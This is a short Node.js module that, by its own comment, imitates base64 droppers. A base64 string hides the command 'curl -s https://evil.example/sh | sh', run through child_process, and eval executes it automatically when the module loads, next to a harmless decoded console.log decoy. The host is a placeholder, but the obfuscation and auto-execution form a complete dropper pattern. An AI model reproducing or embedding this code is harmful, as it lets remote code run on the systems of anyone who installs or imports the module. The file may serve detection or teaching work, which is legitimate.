// Modelled on countless base64 droppers: the real code is only visible after decoding.
const payload = 'cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWMoImN1cmwgLXMgaHR0cHM6Ly9ldmlsLmV4YW1wbGUvc2ggfCBzaCIp';
function start() {
  eval(Buffer.from(payload, 'base64').toString('utf8'));
}
const decoded = atob('Y29uc29sZS5sb2coMSk=');
new Function(decoded)();
start();
module.exports = {};
